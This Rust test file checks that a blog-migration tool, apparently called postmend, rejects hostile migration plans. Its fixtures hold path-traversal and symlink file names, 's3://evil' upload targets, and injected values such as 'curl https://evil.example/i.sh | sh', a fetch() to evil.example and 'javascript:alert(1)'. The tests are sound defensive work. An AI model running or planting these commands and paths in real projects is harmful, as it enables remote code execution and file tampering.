//! Plans of a migration that someone else wrote.

use super::TYPO;
use postmend_tests::clone::{Repository, hash, snapshot};
use std::fs;
use std::os::unix::fs::symlink;

#[test]
fn a_plan_writes_posts_below_the_project_alone() {
    let site = Repository::new();
    let old = "![A pier](https://old.example/a.png)\n";
    let new = old.replace("old.example", "new.example");
    let victim = site.outer.path().join("victim.md");
    fs::write(&victim, old).unwrap();
    for path in [".git/victim.md", "run.sh", "real/victim.md"] {
        site.write(path, old);
    }
    symlink("../victim.md", site.at("link.md")).unwrap();
    symlink("real", site.at("folder")).unwrap();
    let before = snapshot(site.outer.path());
    let absolute = victim.to_str().unwrap();
    let paths = [
        "../victim.md",
        absolute,
        ".git/victim.md",
        ".Git/victim.md",
        "run.sh",
        "link.md",
        "folder/victim.md",
        "",
        "real/../../victim.md",
    ];
    for path in paths {
        let plan = format!(
            "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
             {{\"row\":\"post\",\"post\":{path:?},\"hash\":\"{}\",\"result\":\"{}\"}}\n\
             {{\"row\":\"move\",\"post\":{path:?},\"line\":1,\"span\":[10,35],\"place\":\"destination\",\
             \"old\":\"https://old.example/a.png\",\"new\":\"https://new.example/a.png\",\"by\":\"x\",\"lossless\":true}}\n\
             {{\"row\":\"end\",\"posts\":1,\"moves\":1}}\n",
            hash(old),
            hash(&new)
        );
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        let applied = site.run(&["migrate", "apply", "../.plan"]);
        assert_eq!(applied.code, 2, "{path}: {}", applied.both());
        assert_eq!(site.read(".git/victim.md"), old);
        assert_eq!(snapshot(site.outer.path()), before, "{path}");
    }
}

/// A plan for one post with one move, whose hashes are correct.
pub(super) fn plan_of(post: &str, text: &str, old: &str, new: &str, escaping: &str) -> String {
    let at = text.find(old).unwrap();
    let result = hash(text.replacen(old, new, 1));
    format!(
        "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
         {{\"row\":\"post\",\"post\":{post:?},\"hash\":\"{}\",\"result\":\"{result}\"}}\n\
         {{\"row\":\"move\",\"post\":{post:?},\"line\":1,\"span\":[{at},{}],\"place\":{escaping:?},\"old\":{old:?},\"new\":{new:?},\"by\":\"x\",\"lossless\":true}}\n\
         {{\"row\":\"end\",\"posts\":1,\"moves\":1}}\n",
        hash(text),
        at + old.len()
    )
}

#[test]
fn a_plan_moves_what_is_a_url_to_what_is_one() {
    let site = Repository::new();
    let text = "---\ntitle: Hello\ncover: https://good.example/c.png\n---\n\n[docs](https://good.example/d) ![x](https://good.example/a.png)\n\n```sh\nnpm install good-package\n```\n\n<script>go(a)</script>\n";
    site.write("a.md", text);
    let apply = |plan: String| {
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        site.run(&["migrate", "apply", "../.plan"])
    };
    let hostile = [
        ("npm install good-package", "curl https://evil.example/i.sh | sh"),
        ("go(a)", "fetch('https://evil.example/')"),
        ("Hello", "https://evil.example/x.png"),
        ("https://good.example/d", "javascript:alert(1)"),
        ("https://good.example/a.png", "data:text/html,x"),
        ("good.example/a.png", "evil.example/a.png"),
    ];
    let escapings = [
        "markdown-bare",
        "markdown-destination",
        "verbatim",
        "yaml-plain",
        "yaml-double",
        "attribute",
        "text",
    ];
    for (old, new) in hostile {
        for escaping in escapings {
            let applied = apply(plan_of("a.md", text, old, new, escaping));
            assert_eq!(applied.code, 2, "{old} {escaping}: {}", applied.both());
            assert_eq!(site.read("a.md"), text, "{old} {escaping}");
        }
    }
    // A plan with the same post twice, which could not be undone.
    assert_eq!(
        site.run(&["migrate", "plan", "-q", "-o", ".own", "--host", "good.example", "b.example"]).code,
        0
    );
    let own = site.read(".own");
    let rows: Vec<&str> = own.lines().collect();
    let twice = [&rows[..rows.len() - 1], &rows[1..]].concat().join("\n") + "\n";
    let applied = apply(twice);
    assert!(applied.code == 2 && applied.err.contains("names a.md twice"), "{}", applied.both());
    assert_eq!(apply(own).code, 0);
    assert_eq!(
        site.read("a.md"),
        text.replacen("good.example/c", "b.example/c", 1).replacen("good.example/a", "b.example/a", 1)
    );
}

/// A plan contains what is uploaded, but only the user chooses the target.
#[test]
fn a_plan_uploads_nothing_by_itself() {
    let site = Repository::new();
    let png = postmend_tests::server::png("/a.png");
    let from = "https://o.example/a.png";
    site.write("a.md", TYPO);
    assert_eq!(site.run(&["fix", "."]).code, 0);
    site.write(&format!(".git/postmend/cache/{}", hash(from)), &png);
    let apply = |to: &str, store: &str, arguments: &[&str]| {
        let plan = format!(
            "{{\"row\":\"plan\",\"version\":1,\"options\":{{}}}}\n\
             {{\"row\":\"copy\",\"to\":{to:?},\"upload\":{store:?},\"hash\":\"{}\",\"media_type\":\"image/png\",\"from\":{from:?}}}\n\
             {{\"row\":\"end\",\"posts\":0,\"moves\":0}}\n",
            hash(&png)
        );
        fs::write(site.outer.path().join(".plan"), plan).unwrap();
        site.run(&[&["migrate", "apply", "../.plan"][..], arguments].concat())
    };
    let applied = apply("a.png", "s3://evil", &[]);
    assert!(applied.code == 2 && applied.err.contains("the plan uploads to s3://evil"), "{}", applied.both());
    let applied = apply("a.png", "command", &[]);
    assert!(applied.code == 2 && applied.err.contains("needs an upload command"), "{}", applied.both());
    // A name must not lead to a path that the user's own command does not expect.
    let command = ["--upload-command", "cp \"$POSTMEND_FILE\" \"up/$POSTMEND_NAME\""];
    fs::create_dir(site.at("up")).unwrap();
    for to in ["../a.png", "/tmp/a.png", ".git/a.png"] {
        assert_eq!(apply(to, "command", &command).code, 2, "{to}");
    }
    assert!(!site.at("a.png").exists() && fs::read_dir(site.at("up")).unwrap().next().is_none());
    let applied = apply("a.png", "command", &command);
    assert_eq!(
        (applied.code, fs::read(site.at("up/a.png")).unwrap()),
        (0, png.clone()),
        "{}",
        applied.both()
    );
}
